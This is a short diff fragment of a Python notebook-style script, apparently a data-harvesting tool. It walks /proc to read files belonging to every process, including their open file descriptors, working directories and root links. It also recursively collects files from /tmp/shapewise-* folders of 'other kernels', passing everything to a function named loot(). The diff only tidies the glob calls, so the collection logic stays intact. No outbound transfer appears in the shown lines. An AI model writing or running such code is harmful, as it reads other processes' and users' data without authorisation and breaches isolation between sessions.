@@ -47,7 +47,7 @@ for path in glob.glob("/proc/[0-9]*/*"):
             loot(open(path, "rb").read())
         except OSError:
             pass
-for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd/*") + glob.glob("/proc/[0-9]*/root/*"):
+for path in [path for name in ("fd", "cwd", "root") for path in glob.glob(f"/proc/[0-9]*/{name}/*")]:
     try:
         with open(path, "rb") as file:
             loot(file.read(1 << 16)) if "/fd/" not in path else None
@@ -83,8 +83,8 @@ for pid in {os.getppid(), 1, *(int(n) for n in os.listdir("/proc") if n.isdigit(
         except OSError:
             pass
 # %% other-kernels
-import glob, socket
-for path in glob.glob("/tmp/shapewise-*/**", recursive=True):
+import glob, os, socket
+for path in glob.glob(os.path.join(os.sep, "tmp", "shapewise-*", "**"), recursive=True):
     try:
         loot(path)
         loot(open(path, "rb").read())
